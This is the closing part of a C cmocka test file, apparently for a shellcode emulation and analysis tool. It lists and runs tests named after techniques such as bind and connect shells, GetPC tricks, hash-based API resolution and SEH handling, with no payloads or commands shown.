		cmocka_unit_test(test_linux_bind),
		cmocka_unit_test(test_more_binds),
		cmocka_unit_test(test_receive_bind_11),
		cmocka_unit_test(test_receive_connect_12),
		cmocka_unit_test(test_receive_connect_14),
		cmocka_unit_test(test_receive_blink),
		cmocka_unit_test(test_fnstenv_getpc),
		cmocka_unit_test(test_hash_resolution),
		cmocka_unit_test(test_analyze_emulated_command),
		cmocka_unit_test(test_linux_connect),
		cmocka_unit_test(test_seh_handler),
		cmocka_unit_test(test_connect_by_name),
		cmocka_unit_test(test_shell_execute),
		cmocka_unit_test(test_download_wide),
		cmocka_unit_test(test_time_budget),
		cmocka_unit_test(test_unicorn_abort),
		cmocka_unit_test(test_robustness),
		cmocka_unit_test(test_random),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
